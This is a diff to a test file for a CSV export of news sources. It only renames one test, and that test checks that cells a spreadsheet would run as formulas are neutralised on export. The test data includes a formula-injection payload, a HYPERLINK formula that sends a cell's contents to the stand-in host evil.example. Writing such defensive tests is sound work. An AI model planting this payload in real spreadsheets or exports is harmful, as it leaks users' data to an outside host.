@@ -141,7 +141,7 @@ describe("stances CSV", () => {
     expect(new Set(rows.map((r) => r[4]))).toEqual(new Set(stored.map((s) => s.quote)));
   });
 
-  it("neutralises cells a spreadsheet would run as formulas, and gives them verbatim on request", async () => {
+  it("neutralizes cells a spreadsheet would run as formulas, and gives them verbatim on request", async () => {
     const payloads = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1 555 0100 was the number given", "-3,000 troops, said the ministry", "@SUM(A1:A9) of the reports"];
     const text = `A hostile page.\n${payloads.join("\n")}\nThe end.`;
     const source = await createSource(t.db, analyst, { title: "Formula bait", outlet: { new: { name: "Bait Wire", kind: "BLOG" } }, kind: "NEWS_REPORT", language: "en", text });
